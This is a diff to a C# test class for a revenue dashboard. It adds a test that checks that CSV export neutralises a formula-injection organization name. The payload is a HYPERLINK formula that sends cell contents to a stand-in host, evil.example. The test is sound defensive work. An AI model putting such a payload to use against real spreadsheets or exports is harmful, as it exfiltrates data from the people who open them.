@@ -13,12 +13,13 @@ public sealed class RevenueDashboardTests : IAsyncLifetime
 {
     private readonly CoreTestHost host = new();
     private readonly Dictionary<string, Guid> plans = [];
+    private PublishedListing tides = null!;
 
     public async Task InitializeAsync()
     {
         // The clock starts on 1 November 2026 at 09:00 UTC.
         await host.InitializeAsync();
-        var tides = await host.PublishTidesAsync(
+        tides = await host.PublishTidesAsync(
             new PlanInput { Name = "Pro", MonthlyPrice = 30m }, new PlanInput { Name = "Max", MonthlyPrice = 40m }, new PlanInput { Name = "Trial", MonthlyPrice = 30m, TrialDays = 14 });
         (plans["Pro"], plans["Max"], plans["Trial"]) = (tides.PlanIds[0], tides.PlanIds[1], tides.PlanIds[2]);
     }
@@ -58,5 +59,19 @@ public sealed class RevenueDashboardTests : IAsyncLifetime
         var (user, _, _) = await SubscribeAsync("a@example.com", "Pro");
 
         await Assert.ThrowsAsync<ForbiddenException>(() => host.Get<RevenueDashboardService>().GetAsync(user, 12, "USD", CancellationToken.None));
+    }
+
+    [Fact]
+    public async Task A_name_that_reads_as_a_formula_is_exported_as_text()
+    {
+        var admin = await host.AddAdminAsync("admin@example.com");
+        await host.Get<OrganizationService>().RenameAsync(tides.ProviderId, tides.ProviderOrganizationId, "=HYPERLINK(\"http://evil.example/?\"&A1,\"Acme\")", CancellationToken.None);
+        await SubscribeAsync("a@example.com", "Pro");
+
+        var dashboard = await host.Get<RevenueDashboardService>().GetAsync(admin, 1, "USD", CancellationToken.None);
+
+        Assert.Equal(
+            "provider,mrr,customers,share\r\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Acme\"\")\",30,1,1\r\n",
+            RevenueCsv.Write(dashboard, "providers"));
     }
 }
